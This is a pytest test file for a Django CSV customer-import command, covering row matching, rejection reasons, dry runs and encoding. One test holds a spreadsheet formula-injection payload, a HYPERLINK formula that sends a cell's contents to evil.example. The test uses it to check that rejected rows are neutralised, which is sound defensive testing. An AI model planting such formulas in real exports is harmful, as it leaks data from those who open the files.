"""`manage.py import_customers FILE.csv`: match by reference, e-mail or phone; create; reject with reasons."""

import csv
from decimal import Decimal
from io import StringIO

import pytest
from django.core.management import CommandError, call_command

from customers.models import Customer, CustomerRecord
from inbox.models import Event
from tests.factories import make_customer

pytestmark = pytest.mark.django_db


def _import(tmp_path, text: str, *args: str, encoding: str = "utf-8") -> str:
    path = tmp_path / "customers.csv"
    path.write_bytes(text.encode(encoding))
    out, err = StringIO(), StringIO()
    call_command("import_customers", str(path), *args, stdout=out, stderr=err)
    return out.getvalue()


def test_rows_match_by_reference_email_or_phone_and_the_rest_are_created(tmp_path):
    by_ref = make_customer("Old Name", external_ref="CRM-1")
    by_email = make_customer("Bea", email="Bea@Example.com", tags=["fibre"])
    make_customer("Cy", phone="+447700900123")  # the third row matches Cy by phone, in another format

    output = _import(
        tmp_path,
        "external_ref,email,phone,name,tier,lifetime_value,tags\n"
        "CRM-1,,,Ann Lee,VIP,1200.50,\n"
        ",bea@example.com,,,plus,,Fibre;late payer\n"
        ",,+44 (0)7700 900-123,,,,\n"
        "CRM-9,dee@example.com,,Dee,,,\n",
    )

    assert "matched 3, created 1, rejected 0 rows" in output
    by_ref.refresh_from_db()
    assert (by_ref.name, by_ref.tier, by_ref.lifetime_value) == ("Ann Lee", "vip", Decimal("1200.50"))
    by_email.refresh_from_db()
    assert by_email.tier == "plus" and by_email.tags == ["fibre", "late payer"]
    assert Customer.objects.get(external_ref="CRM-9").email == "dee@example.com"
    assert Customer.objects.count() == 4
    changed = Event.objects.get(customer=by_ref, kind=Event.Kind.CUSTOMER_CHANGED)
    assert changed.data == {"source": "customers.csv", "fields": ["lifetime_value", "name", "tier"]}


def test_bad_and_ambiguous_rows_are_rejected_with_reasons_and_change_nothing(tmp_path):
    make_customer("Twin A", email="twin@example.com")
    make_customer("Twin B", email="twin@example.com")
    ref_owner = make_customer("Ref", external_ref="CRM-1")
    make_customer("Mail", email="mail@example.com")

    output = _import(
        tmp_path,
        "external_ref,email,phone,tier,lifetime_value\n"
        ",not-an-email,,,\n"
        ",,12,,\n"
        ",x@example.com,,platinum,\n"
        ",y@example.com,,,-5\n"
        ",z@example.com,,,lots\n"
        ",,,vip,\n"
        ",twin@example.com,,,\n"
        "CRM-1,mail@example.com,,,\n"
        "CRM-2,,,,,surplus\n",
        "--rejects",
        str(tmp_path / "rejects.csv"),
    )

    assert "matched 0, created 0, rejected 9 rows" in output
    for reason in (
        "line 2: email 'not-an-email' is not an e-mail address",
        "line 3: phone '12' is not a phone number",
        "line 4: tier 'platinum' is not one of",
        "line 5: lifetime_value cannot be negative",
        "line 6: lifetime_value 'lots' is not an amount like 1234.50",
        "line 7: no external_ref, email or phone",
        "line 8: email 'twin@example.com' belongs to several customers",
        "line 9: the row matches different customers (by external_ref #",
        "line 10: 1 more values than the header has columns",
    ):
        assert reason in output
    assert Customer.objects.count() == 4 and ref_owner.email == ""
    rejects = (tmp_path / "rejects.csv").read_text().splitlines()
    assert rejects[0] == "line,reason,external_ref,email,phone,tier,lifetime_value" and len(rejects) == 10


def test_records_from_the_company_systems_are_attached_and_updated_on_a_second_run(tmp_path):
    text = (
        "email;record_kind;record_source;record_ref;record_title;record_status;record_amount;record_occurred_at\n"
        "ann@example.com;order;shop;SO-1;Fibre 500;paid;49.00;2026-03-01\n"
        "ann@example.com;case;zendesk;Z-7;Router blinks red;open;;2026-03-02T14:30:00Z\n"
    )
    assert "created 1, rejected 0 rows; records created 2, updated 0" in _import(tmp_path, text)
    again = _import(tmp_path, text.replace(";open;", ";solved;"))

    assert "matched 2, created 0, rejected 0 rows; records created 0, updated 1" in again
    ann = Customer.objects.get()
    assert ann.records.count() == 2 and ann.records.get(kind="case").status == "solved"
    assert ann.records.get(kind="order").amount == Decimal("49.00")
    assert "records created 0, updated 0" in _import(tmp_path, text.replace(";open;", ";solved;"))


def test_the_same_file_twice_changes_nothing_more(tmp_path):
    text = "external_ref,email,name,tags\nCRM-1,ann@example.com,Ann,vip\nCRM-2,bob@example.com,Bob,\n"
    _import(tmp_path, text)
    before = list(Customer.objects.order_by("pk").values())
    events = Event.objects.count()

    assert "matched 2, created 0" in _import(tmp_path, text)
    assert list(Customer.objects.order_by("pk").values()) == before and Event.objects.count() == events


def test_a_customer_created_by_one_row_is_matched_by_the_next(tmp_path):
    output = _import(tmp_path, "email,phone,name\nann@example.com,,Ann\nANN@example.com,+15550100,\n,+15550100,Ann B\n")
    assert "matched 2, created 1" in output
    ann = Customer.objects.get()
    assert (ann.email, ann.phone, ann.name) == ("ann@example.com", "+15550100", "Ann B")


def test_dry_run_counts_but_stores_nothing(tmp_path):
    output = _import(
        tmp_path,
        "email,record_kind,record_source,record_title,record_occurred_at\na@example.com,order,shop,X,2026-01-01\n",
        "--dry-run",
    )
    assert "Dry run, nothing stored: would have matched 0, created 1" in output
    assert not Customer.objects.exists() and not CustomerRecord.objects.exists() and not Event.objects.exists()


def test_semicolons_and_an_excel_bom_are_understood(tmp_path):
    output = _import(tmp_path, "\ufeffEmail;Name\nann@example.com;Ann\n")
    assert "created 1" in output and Customer.objects.get().name == "Ann"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "is empty"),
        (b"name,tier\nAnn,vip\n", "needs at least one of external_ref, email, phone"),
        ("email,name\nann@example.com,Zoë\n".encode("latin-1"), r"is not UTF-8 \(line 2\)"),
    ],
)
def test_files_that_cannot_be_imported_are_refused_before_anything_is_stored(tmp_path, content, message):
    path = tmp_path / "bad.csv"
    path.write_bytes(content)
    with pytest.raises(CommandError, match=message):
        call_command("import_customers", str(path), stdout=StringIO(), stderr=StringIO())
    assert not Customer.objects.exists()


def test_a_missing_file_is_named(tmp_path):
    with pytest.raises(CommandError, match="No such file"):
        call_command("import_customers", str(tmp_path / "nope.csv"))


BAD_VALUES = [
    ("lifetime_value", "12,50", "is not an amount like 1234.50"),  # a decimal comma is not read as 1250
    ("lifetime_value", "1.234,56", "is not an amount"),
    ("lifetime_value", "1e999999999999999999", "is not an amount"),
    ("lifetime_value", "NaN", "is not an amount"),
    ("record_occurred_at", "0001-01-01T00:00:00+01:00", "outside 1900 to 2100"),
    ("record_occurred_at", "yesterday", "is not a date"),
    ("name", "Ann\x00Lee", "NUL character"),
    ("email", "a" * 250 + "@example.com", "longer than 254"),
    ("tags", ";".join(f"t{n}" for n in range(31)), "more than 30"),
]


@pytest.mark.parametrize(("column", "value", "reason"), BAD_VALUES, ids=[f"{c}-{r}" for c, _, r in BAD_VALUES])
def test_each_bad_value_rejects_its_row_only(tmp_path, column, value, reason):
    good = {"email": "fine@example.com", "record_kind": "order", "record_source": "shop", "record_title": "X"}
    good |= {"record_occurred_at": "2026-01-01", "name": "", "lifetime_value": "", "tags": ""}
    bad = {**good, "email": "bad@example.com", column: value}
    text = StringIO()
    writer = csv.DictWriter(text, fieldnames=list(good))
    writer.writeheader()
    writer.writerows([bad, good])

    output = _import(tmp_path, text.getvalue())

    assert "created 1, rejected 1 rows" in output and f"line 2: {column}" in output and reason in output
    assert list(Customer.objects.values_list("email", flat=True)) == ["fine@example.com"]


def test_a_record_is_not_handed_from_one_customer_to_another(tmp_path):
    text = "external_ref,record_kind,record_source,record_ref,record_title,record_occurred_at\n"
    output = _import(tmp_path, text + "A,order,shop,O1,First,2026-01-01\nB,order,shop,O1,Second,2026-01-02\n")
    assert "line 3: record_ref 'O1' belongs to a customer created earlier in this file" in output
    output = _import(tmp_path, text + "B,order,shop,O1,Again,2026-01-02\n")
    owner = Customer.objects.get(external_ref="A")
    assert f"record_ref 'O1' belongs to #{owner.pk}" in output
    assert CustomerRecord.objects.get().customer == owner and CustomerRecord.objects.get().title == "First"


def test_the_rejects_file_is_safe_to_open_in_a_spreadsheet_and_never_the_input(tmp_path):
    path = tmp_path / "in.csv"
    path.write_text('email,name\nbad,"=HYPERLINK(""http://evil.example/?""&A1,""click"")"\n')
    with pytest.raises(CommandError, match="another file"):
        call_command("import_customers", str(path), "--rejects", str(path), stdout=StringIO(), stderr=StringIO())
    assert path.read_text().startswith("email,name")

    call_command("import_customers", str(path), "--rejects", str(tmp_path / "out.csv"), stdout=StringIO())
    rejected = (tmp_path / "out.csv").read_text().splitlines()[1]
    assert "\"'=HYPERLINK(" in rejected and ',"=HYPERLINK' not in rejected


def test_a_header_that_repeats_a_column_or_a_giant_cell_is_refused_whole(tmp_path):
    path = tmp_path / "in.csv"
    path.write_text("email,Email\na@example.com,\n")
    with pytest.raises(CommandError, match="more than once: email"):
        call_command("import_customers", str(path), stdout=StringIO(), stderr=StringIO())
    path.write_text("email,name\na@example.com,ok\nb@example.com," + "x" * 200_000 + "\n")
    with pytest.raises(CommandError, match="row after line 2 cannot be read as CSV"):
        call_command("import_customers", str(path), stdout=StringIO(), stderr=StringIO())
    assert not Customer.objects.exists()
